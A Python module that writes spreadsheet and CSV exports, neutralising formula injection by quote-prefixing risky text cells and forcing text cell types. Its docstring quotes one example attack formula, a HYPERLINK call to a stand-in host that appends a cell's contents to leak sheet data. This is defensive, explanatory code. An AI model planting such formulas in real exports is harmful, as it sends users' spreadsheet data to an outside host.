"""The one writer for spreadsheet cells and CSV: user text never becomes a live formula. No Django here.

Spreadsheet programs run a cell that starts with `=`, `+`, `-` or `@` as a formula (and tab or carriage
return can smuggle one in); `=HYPERLINK("http://evil.example/?x="&A1,"details")` in a note would leak
the sheet when the client opens it. Following OWASP's CSV-injection guidance, every text cell that starts
with one of those characters is prefixed with a single quote, in every XLSX and CSV export. Numbers,
dates and None pass unchanged. Every export writes its cells through `safe_cell` / `safe_row` /
`write_csv` / `append_row`; a test feeds every exported text field a formula.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import Any

from sevenc.lib.bounds import colour_or

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """A cell value that a spreadsheet will show as text, never evaluate."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


def write_csv(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """CSV text (RFC 4180, CRLF line ends) with every cell neutralised; None is an empty cell."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(safe_row(header))
    for row in rows:
        writer.writerow(["" if value is None else value for value in safe_row(row)])
    return buffer.getvalue()


# Control characters other than tab, line feed and carriage return cannot be stored in an XLSX cell
# (openpyxl refuses them); a pasted note may carry one, and an export must not fail on it.
_XLSX_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def _xlsx_cell(value: Any) -> Any:
    # Strip first, then neutralise: "\x00=1" stripped afterwards would start with "=" again.
    return safe_cell(_XLSX_ILLEGAL.sub("", value) if isinstance(value, str) else value)


def append_row(sheet: Any, row: Iterable[Any]) -> None:
    """Append a row to an openpyxl worksheet with every text cell neutralised and typed as text.

    openpyxl turns any string that starts with "=" into a formula cell; after the quote prefix none
    does, and the explicit "s" type keeps it so whatever openpyxl guesses.
    """
    values = [_xlsx_cell(value) for value in row]
    sheet.append(values)
    for cell, value in zip(sheet[sheet.max_row], values, strict=False):
        if isinstance(value, str):
            cell.data_type = "s"


def set_cell(sheet: Any, *, row: int, column: int, value: Any) -> Any:
    """`sheet.cell(row, column, value)` through the same neutralising rule; returns the cell."""
    value = _xlsx_cell(value)
    cell = sheet.cell(row=row, column=column, value=value)
    if isinstance(value, str):
        cell.data_type = "s"
    return cell


def new_workbook() -> Any:
    from openpyxl import Workbook

    return Workbook()


def add_table(
    sheet: Any,
    headers: Sequence[tuple[str, int]],
    rows: Iterable[Sequence[Any]],
    colour: str,
    *,
    number_format: dict[int, str] | None = None,
) -> None:
    """A header row (name, width) in the MSP's colour, then `rows`, every cell through `append_row`;
    frozen below the header, filterable, text wrapped. `number_format` maps 1-based columns to a format."""
    from openpyxl.styles import Alignment, Font, PatternFill
    from openpyxl.utils import get_column_letter

    fill = PatternFill("solid", fgColor=colour_or(colour, "#1f4e79").lstrip("#").upper())
    for column, (name, width) in enumerate(headers, start=1):
        cell = set_cell(sheet, row=1, column=column, value=name)
        cell.font = Font(bold=True, color="FFFFFF")
        cell.fill = fill
        cell.alignment = Alignment(vertical="center")
        sheet.column_dimensions[get_column_letter(column)].width = width
    count = 0
    for row in rows:
        append_row(sheet, row)
        count += 1
    wrap = Alignment(wrap_text=True, vertical="top")
    for row_cells in sheet.iter_rows(min_row=2):
        for cell in row_cells:
            cell.alignment = wrap
            if number_format and cell.column in number_format and not isinstance(cell.value, str):
                cell.number_format = number_format[cell.column]
    sheet.freeze_panes = "A2"
    sheet.auto_filter.ref = f"A1:{get_column_letter(len(headers))}{max(1, count + 1)}"


def workbook_bytes(book: Any) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
